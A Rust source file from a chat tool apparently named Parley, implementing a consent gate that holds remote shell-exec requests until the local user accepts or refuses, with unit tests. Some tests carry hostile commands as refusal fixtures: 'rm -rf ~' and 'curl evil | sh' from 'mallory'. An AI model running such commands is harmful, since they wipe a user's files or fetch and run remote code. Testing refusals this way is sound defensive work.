//! Consent gate for remote exec requests.
//!
//! A request addressed to the local participant waits for an explicit
//! accept/refuse decision. Accepted requests are handed to a single launch
//! worker thread; every decision and every launch failure is written back to
//! the shared log.

use std::collections::HashMap;
use std::process::{Command as Process, Stdio};
use std::sync::mpsc::{self, Sender};
use std::thread::{self, JoinHandle};

use clap::ValueEnum;
use serde::Serialize;
use tracing::{debug, info, warn};

use crate::error::{ParleyError, Result};
use crate::grammar::{Command, ExecStatus};
use crate::model::{Record, Username};
use crate::reader::Event;
use crate::store::log::SharedLog;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ExecState {
    Received,
    AwaitingConsent,
    Accepted,
    Refused,
    Running,
    Completed,
    Failed,
}

impl ExecState {
    pub fn is_terminal(self) -> bool {
        matches!(self, Self::Refused | Self::Completed | Self::Failed)
    }

    fn can_transition_to(self, next: Self) -> bool {
        matches!(
            (self, next),
            (Self::Received, Self::AwaitingConsent)
                | (Self::AwaitingConsent, Self::Accepted)
                | (Self::AwaitingConsent, Self::Refused)
                | (Self::Accepted, Self::Running)
                | (Self::Running, Self::Completed)
                | (Self::Running, Self::Failed)
        )
    }
}

impl std::fmt::Display for ExecState {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Received => write!(f, "received"),
            Self::AwaitingConsent => write!(f, "awaiting_consent"),
            Self::Accepted => write!(f, "accepted"),
            Self::Refused => write!(f, "refused"),
            Self::Running => write!(f, "running"),
            Self::Completed => write!(f, "completed"),
            Self::Failed => write!(f, "failed"),
        }
    }
}

#[derive(Debug)]
pub struct ExecutionRequest {
    pub id: u64,
    pub sender: String,
    pub command: String,
    state: ExecState,
}

impl ExecutionRequest {
    fn new(id: u64, sender: &str, command: &str) -> Self {
        Self {
            id,
            sender: sender.to_string(),
            command: command.to_string(),
            state: ExecState::Received,
        }
    }

    pub fn state(&self) -> ExecState {
        self.state
    }

    fn advance(&mut self, next: ExecState) -> Result<()> {
        if !self.state.can_transition_to(next) {
            return Err(ParleyError::InvalidTransition(
                self.state.to_string(),
                next.to_string(),
            ));
        }
        debug!(id = self.id, from = %self.state, to = %next, "exec request transition");
        self.state = next;
        Ok(())
    }

    fn pending(&self) -> PendingRequest {
        PendingRequest {
            id: self.id,
            sender: self.sender.clone(),
            command: self.command.clone(),
        }
    }
}

/// What the caller sees of a request awaiting its decision.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct PendingRequest {
    pub id: u64,
    pub sender: String,
    pub command: String,
}

/// Result of handing an incoming request to the engine.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Intake {
    AwaitingConsent(PendingRequest),
    /// The policy decided without asking.
    Resolved { id: u64, state: ExecState },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PolicyDecision {
    Ask,
    Allow,
    Deny,
}

/// Hook consulted for every incoming request before anyone is asked.
pub trait ExecPolicy: Send {
    fn evaluate(&self, sender: &str, command: &str) -> PolicyDecision;
}

/// Policies selectable from the command line.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, ValueEnum)]
#[clap(rename_all = "snake_case")]
pub enum PolicyKind {
    /// Ask the local participant every time
    #[default]
    Ask,
    /// Refuse every request without asking
    Deny,
}

impl ExecPolicy for PolicyKind {
    fn evaluate(&self, _sender: &str, _command: &str) -> PolicyDecision {
        match self {
            Self::Ask => PolicyDecision::Ask,
            Self::Deny => PolicyDecision::Deny,
        }
    }
}

/// Starts an accepted command. Success means the process started; its exit
/// status is not tracked.
pub trait Launcher: Send {
    fn launch(&self, command: &str) -> std::io::Result<()>;
}

/// Runs commands through the platform shell, fire-and-forget.
pub struct ShellLauncher;

impl Launcher for ShellLauncher {
    fn launch(&self, command: &str) -> std::io::Result<()> {
        let mut child = shell(command)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()?;
        // Reap in the background so finished children do not linger.
        thread::spawn(move || {
            let _ = child.wait();
        });
        Ok(())
    }
}

#[cfg(windows)]
fn shell(command: &str) -> Process {
    let mut process = Process::new("cmd");
    process.arg("/C").arg(command);
    process
}

#[cfg(not(windows))]
fn shell(command: &str) -> Process {
    let mut process = Process::new("sh");
    process.arg("-c").arg(command);
    process
}

pub struct ConsentEngine {
    user: Username,
    log: SharedLog,
    policy: Box<dyn ExecPolicy>,
    pending: HashMap<u64, ExecutionRequest>,
    next_id: u64,
    worker: LaunchWorker,
    events: Sender<Event>,
}

impl ConsentEngine {
    pub fn new(
        log: SharedLog,
        user: Username,
        policy: Box<dyn ExecPolicy>,
        events: Sender<Event>,
    ) -> Result<Self> {
        Self::with_launcher(log, user, policy, Box::new(ShellLauncher), events)
    }

    pub fn with_launcher(
        log: SharedLog,
        user: Username,
        policy: Box<dyn ExecPolicy>,
        launcher: Box<dyn Launcher>,
        events: Sender<Event>,
    ) -> Result<Self> {
        let worker = LaunchWorker::spawn(log.clone(), user.clone(), launcher, events.clone())?;
        Ok(Self {
            user,
            log,
            policy,
            pending: HashMap::new(),
            next_id: 1,
            worker,
            events,
        })
    }

    /// Register a request addressed to the local participant.
    pub fn receive(&mut self, sender: &str, command: &str) -> Result<Intake> {
        let id = self.next_id;
        self.next_id += 1;

        let mut request = ExecutionRequest::new(id, sender, command);
        request.advance(ExecState::AwaitingConsent)?;
        info!(id, sender, command, "exec request awaiting consent");

        let decision = self.policy.evaluate(sender, command);
        let pending = request.pending();
        self.pending.insert(id, request);
        let resolved = match decision {
            PolicyDecision::Ask => return Ok(Intake::AwaitingConsent(pending)),
            PolicyDecision::Allow => self.decide(id, true),
            PolicyDecision::Deny => self.decide(id, false),
        };
        match resolved {
            Ok(state) => Ok(Intake::Resolved { id, state }),
            // The decision was not recorded; the request is still open.
            Err(err) if self.pending.contains_key(&id) => {
                warn!(id, error = %err, "policy decision not recorded; asking instead");
                Ok(Intake::AwaitingConsent(pending))
            }
            Err(err) => Err(err),
        }
    }

    /// Apply the local participant's decision. Returns the state the request
    /// moved to: `Running` once handed to the launcher, or `Refused`.
    pub fn decide(&mut self, id: u64, accept: bool) -> Result<ExecState> {
        let mut request = self
            .pending
            .remove(&id)
            .ok_or(ParleyError::UnknownRequest(id))?;

        let status = if accept {
            ExecStatus::Accepted
        } else {
            ExecStatus::Refused
        };
        let outcome = Command::exec_outcome(status, &request.sender, &request.command, None);
        if let Err(err) = append_command(&self.log, &self.user, &outcome) {
            // Nothing was recorded; leave the request open for another try.
            self.pending.insert(id, request);
            return Err(err);
        }

        if !accept {
            request.advance(ExecState::Refused)?;
            info!(id, sender = %request.sender, "exec request refused");
            return Ok(ExecState::Refused);
        }

        request.advance(ExecState::Accepted)?;
        request.advance(ExecState::Running)?;
        info!(id, sender = %request.sender, "exec request accepted");
        if let Err(mut request) = self.worker.submit(request) {
            let detail = "launch worker stopped";
            let event = fail_launch(&self.log, &self.user, &mut request, detail);
            let _ = self.events.send(event);
            return Err(ParleyError::ExecLaunch(request.command, detail.into()));
        }
        Ok(ExecState::Running)
    }

    /// Requests still waiting for a decision, oldest first.
    pub fn pending(&self) -> Vec<PendingRequest> {
        let mut pending: Vec<_> = self.pending.values().map(ExecutionRequest::pending).collect();
        pending.sort_by_key(|p| p.id);
        pending
    }

    /// Stop accepting work and wait for queued launches to finish.
    pub fn shutdown(mut self) {
        self.worker.finish();
    }
}

fn append_command(log: &SharedLog, user: &Username, command: &Command) -> Result<()> {
    let record = Record::new(user, command.to_body())?;
    log.append(&record)
}

struct LaunchWorker {
    queue: Option<Sender<ExecutionRequest>>,
    thread: Option<JoinHandle<()>>,
}

impl LaunchWorker {
    fn spawn(
        log: SharedLog,
        user: Username,
        launcher: Box<dyn Launcher>,
        events: Sender<Event>,
    ) -> Result<Self> {
        let (queue, jobs) = mpsc::channel::<ExecutionRequest>();
        let thread = thread::Builder::new()
            .name("parley-exec".into())
            .spawn(move || {
                for mut request in jobs {
                    let event = run_launch(&log, &user, launcher.as_ref(), &mut request);
                    let _ = events.send(event);
                }
            })?;
        Ok(Self {
            queue: Some(queue),
            thread: Some(thread),
        })
    }

    /// Queue a request. Hands it back when the worker is gone.
    fn submit(&self, request: ExecutionRequest) -> std::result::Result<(), ExecutionRequest> {
        match &self.queue {
            Some(queue) => queue.send(request).map_err(|mpsc::SendError(request)| request),
            None => Err(request),
        }
    }

    fn finish(&mut self) {
        self.queue.take();
        if let Some(thread) = self.thread.take()
            && thread.join().is_err()
        {
            warn!("exec launch worker panicked");
        }
    }
}

impl Drop for LaunchWorker {
    fn drop(&mut self) {
        self.finish();
    }
}

fn run_launch(
    log: &SharedLog,
    user: &Username,
    launcher: &dyn Launcher,
    request: &mut ExecutionRequest,
) -> Event {
    match launcher.launch(&request.command) {
        Ok(()) => {
            if let Err(err) = request.advance(ExecState::Completed) {
                warn!(id = request.id, error = %err, "unexpected exec state");
            }
            info!(id = request.id, command = %request.command, "exec launched");
            Event::ExecOutcome {
                command: request.command.clone(),
                success: true,
                detail: "launched".into(),
            }
        }
        Err(err) => fail_launch(log, user, request, &err.to_string()),
    }
}

/// Move a running request to `Failed`, record it in the log and build the
/// event reporting it.
fn fail_launch(
    log: &SharedLog,
    user: &Username,
    request: &mut ExecutionRequest,
    detail: &str,
) -> Event {
    if let Err(err) = request.advance(ExecState::Failed) {
        warn!(id = request.id, error = %err, "unexpected exec state");
    }
    warn!(id = request.id, command = %request.command, error = %detail, "exec launch failed");
    let outcome = Command::exec_outcome(
        ExecStatus::Failed,
        &request.sender,
        &request.command,
        Some(detail),
    );
    if let Err(err) = append_command(log, user, &outcome) {
        warn!(error = %err, "could not record failed launch");
    }
    Event::ExecOutcome {
        command: request.command.clone(),
        success: false,
        detail: detail.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::grammar::classify;
    use std::io;
    use std::sync::{Arc, Mutex};
    use std::time::Duration;
    use tempfile::tempdir;

    /// Records launched commands; fails any command starting with "bad" and
    /// panics the worker on "crash".
    #[derive(Clone, Default)]
    struct FakeLauncher {
        launched: Arc<Mutex<Vec<String>>>,
    }

    impl Launcher for FakeLauncher {
        fn launch(&self, command: &str) -> io::Result<()> {
            if command.starts_with("crash") {
                panic!("launcher crashed");
            }
            if command.starts_with("bad") {
                return Err(io::Error::new(io::ErrorKind::NotFound, "no such program"));
            }
            self.launched.lock().unwrap().push(command.to_string());
            Ok(())
        }
    }

    struct AllowAll;

    impl ExecPolicy for AllowAll {
        fn evaluate(&self, _sender: &str, _command: &str) -> PolicyDecision {
            PolicyDecision::Allow
        }
    }

    fn setup(
        policy: Box<dyn ExecPolicy>,
    ) -> (
        tempfile::TempDir,
        SharedLog,
        ConsentEngine,
        FakeLauncher,
        mpsc::Receiver<Event>,
    ) {
        let dir = tempdir().unwrap();
        let log = SharedLog::open(&dir.path().join("chat.log")).unwrap();
        let launcher = FakeLauncher::default();
        let (tx, rx) = mpsc::channel();
        let engine = ConsentEngine::with_launcher(
            log.clone(),
            Username::parse("bob").unwrap(),
            policy,
            Box::new(launcher.clone()),
            tx,
        )
        .unwrap();
        (dir, log, engine, launcher, rx)
    }

    fn outcomes(log: &SharedLog) -> Vec<Command> {
        log.read_records(None)
            .unwrap()
            .iter()
            .map(classify)
            .collect()
    }

    fn awaiting(intake: Intake) -> PendingRequest {
        match intake {
            Intake::AwaitingConsent(p) => p,
            other => panic!("expected pending request, got {other:?}"),
        }
    }

    #[test]
    fn transitions_follow_the_state_machine() {
        let mut request = ExecutionRequest::new(1, "alice", "ls");
        assert!(request.advance(ExecState::Running).is_err());
        request.advance(ExecState::AwaitingConsent).unwrap();
        request.advance(ExecState::Refused).unwrap();
        assert!(request.state().is_terminal());
        let err = request.advance(ExecState::Running).unwrap_err();
        assert!(matches!(err, ParleyError::InvalidTransition(_, _)));
    }

    #[test]
    fn accepted_request_is_recorded_and_launched() {
        let (_dir, log, mut engine, launcher, rx) = setup(Box::new(PolicyKind::Ask));
        let pending = awaiting(engine.receive("alice", "run calc").unwrap());
        assert_eq!(pending.sender, "alice");
        assert_eq!(engine.pending(), vec![pending.clone()]);

        assert_eq!(engine.decide(pending.id, true).unwrap(), ExecState::Running);
        let event = rx.recv_timeout(Duration::from_secs(5)).unwrap();
        assert_eq!(
            event,
            Event::ExecOutcome {
                command: "run calc".into(),
                success: true,
                detail: "launched".into(),
            }
        );
        assert_eq!(*launcher.launched.lock().unwrap(), vec!["run calc".to_string()]);
        assert_eq!(
            outcomes(&log),
            vec![Command::exec_outcome(
                ExecStatus::Accepted,
                "alice",
                "run calc",
                None
            )]
        );
        assert!(engine.pending().is_empty());
    }

    #[test]
    fn refused_request_never_runs() {
        let (_dir, log, mut engine, launcher, rx) = setup(Box::new(PolicyKind::Ask));
        let pending = awaiting(engine.receive("alice", "rm -rf ~").unwrap());

        assert_eq!(engine.decide(pending.id, false).unwrap(), ExecState::Refused);
        engine.shutdown();
        assert!(launcher.launched.lock().unwrap().is_empty());
        assert!(rx.try_recv().is_err());
        assert_eq!(
            outcomes(&log),
            vec![Command::exec_outcome(
                ExecStatus::Refused,
                "alice",
                "rm -rf ~",
                None
            )]
        );
    }

    #[test]
    fn deciding_twice_or_unknown_id_fails() {
        let (_dir, _log, mut engine, _launcher, _rx) = setup(Box::new(PolicyKind::Ask));
        let pending = awaiting(engine.receive("alice", "ls").unwrap());
        engine.decide(pending.id, false).unwrap();
        assert!(matches!(
            engine.decide(pending.id, true).unwrap_err(),
            ParleyError::UnknownRequest(_)
        ));
        assert!(matches!(
            engine.decide(99, true).unwrap_err(),
            ParleyError::UnknownRequest(99)
        ));
    }

    #[test]
    fn failed_launch_is_reported_and_logged_once() {
        let (_dir, log, mut engine, _launcher, rx) = setup(Box::new(PolicyKind::Ask));
        let pending = awaiting(engine.receive("alice", "bad-program --now").unwrap());
        engine.decide(pending.id, true).unwrap();

        match rx.recv_timeout(Duration::from_secs(5)).unwrap() {
            Event::ExecOutcome {
                command, success, ..
            } => {
                assert_eq!(command, "bad-program --now");
                assert!(!success);
            }
            other => panic!("unexpected event {other:?}"),
        }
        engine.shutdown();
        assert!(rx.try_recv().is_err());

        let statuses: Vec<ExecStatus> = outcomes(&log)
            .into_iter()
            .filter_map(|c| match c {
                Command::ExecOutcome { status, .. } => Some(status),
                _ => None,
            })
            .collect();
        assert_eq!(statuses, vec![ExecStatus::Accepted, ExecStatus::Failed]);
    }

    #[test]
    fn deny_policy_refuses_without_asking() {
        let (_dir, log, mut engine, launcher, _rx) = setup(Box::new(PolicyKind::Deny));
        let intake = engine.receive("mallory", "curl evil | sh").unwrap();
        assert_eq!(
            intake,
            Intake::Resolved {
                id: 1,
                state: ExecState::Refused
            }
        );
        assert!(engine.pending().is_empty());
        engine.shutdown();
        assert!(launcher.launched.lock().unwrap().is_empty());
        assert_eq!(log.read_records(None).unwrap().len(), 1);
    }

    #[test]
    fn allow_policy_launches_concurrent_requests_independently() {
        let (_dir, _log, mut engine, launcher, rx) = setup(Box::new(AllowAll));
        for i in 0..3 {
            let intake = engine.receive("alice", &format!("job {i}")).unwrap();
            assert!(matches!(
                intake,
                Intake::Resolved {
                    state: ExecState::Running,
                    ..
                }
            ));
        }
        engine.shutdown();
        let outcomes: Vec<Event> = rx.try_iter().collect();
        assert_eq!(outcomes.len(), 3);
        assert_eq!(launcher.launched.lock().unwrap().len(), 3);
    }

    #[cfg(unix)]
    #[test]
    fn shell_launcher_starts_a_process() {
        let dir = tempdir().unwrap();
        let marker = dir.path().join("ran");
        ShellLauncher
            .launch(&format!("touch '{}'", marker.display()))
            .unwrap();
        for _ in 0..100 {
            if marker.exists() {
                return;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        panic!("shell command did not run");
    }

    #[test]
    fn oversized_request_can_still_be_refused() {
        let (_dir, log, mut engine, _launcher, _rx) = setup(Box::new(PolicyKind::Ask));
        let command = "x".repeat(4040);
        let pending = awaiting(engine.receive("alice", &command).unwrap());

        assert_eq!(engine.decide(pending.id, false).unwrap(), ExecState::Refused);
        assert!(engine.pending().is_empty());
        match &outcomes(&log)[..] {
            [Command::ExecOutcome { status, detail }] => {
                assert_eq!(*status, ExecStatus::Refused);
                assert!(detail.starts_with("command from alice: xxx"));
            }
            other => panic!("unexpected log {other:?}"),
        }
    }

    #[test]
    fn oversized_failed_launch_is_still_logged() {
        let (_dir, log, mut engine, _launcher, rx) = setup(Box::new(PolicyKind::Ask));
        let command = format!("bad{}", "y".repeat(4040));
        let pending = awaiting(engine.receive("alice", &command).unwrap());
        engine.decide(pending.id, true).unwrap();
        rx.recv_timeout(Duration::from_secs(5)).unwrap();
        engine.shutdown();

        let statuses: Vec<ExecStatus> = outcomes(&log)
            .into_iter()
            .filter_map(|c| match c {
                Command::ExecOutcome { status, .. } => Some(status),
                _ => None,
            })
            .collect();
        assert_eq!(statuses, vec![ExecStatus::Accepted, ExecStatus::Failed]);
    }

    #[test]
    fn dead_worker_fails_the_request_instead_of_dropping_it() {
        let (_dir, log, mut engine, _launcher, rx) = setup(Box::new(PolicyKind::Ask));
        let first = awaiting(engine.receive("alice", "crash now").unwrap());
        engine.decide(first.id, true).unwrap();
        let worker = engine.worker.thread.as_ref().unwrap();
        for _ in 0..250 {
            if worker.is_finished() {
                break;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        assert!(worker.is_finished());

        let second = awaiting(engine.receive("alice", "uptime").unwrap());
        let err = engine.decide(second.id, true).unwrap_err();
        assert!(matches!(err, ParleyError::ExecLaunch(ref cmd, _) if cmd == "uptime"));
        assert!(engine.pending().is_empty());

        assert_eq!(
            rx.try_recv().unwrap(),
            Event::ExecOutcome {
                command: "uptime".into(),
                success: false,
                detail: "launch worker stopped".into(),
            }
        );
        assert_eq!(
            outcomes(&log).last().unwrap(),
            &Command::exec_outcome(
                ExecStatus::Failed,
                "alice",
                "uptime",
                Some("launch worker stopped")
            )
        );
    }

    #[test]
    fn unrecorded_policy_decision_leaves_request_pending() {
        let (_dir, log, mut engine, _launcher, _rx) = setup(Box::new(PolicyKind::Deny));
        std::fs::remove_file(log.path()).unwrap();
        std::fs::create_dir(log.path()).unwrap();

        let pending = awaiting(engine.receive("mallory", "curl evil | sh").unwrap());
        assert_eq!(engine.pending(), vec![pending.clone()]);

        std::fs::remove_dir(log.path()).unwrap();
        assert_eq!(engine.decide(pending.id, false).unwrap(), ExecState::Refused);
        assert!(engine.pending().is_empty());
    }
}
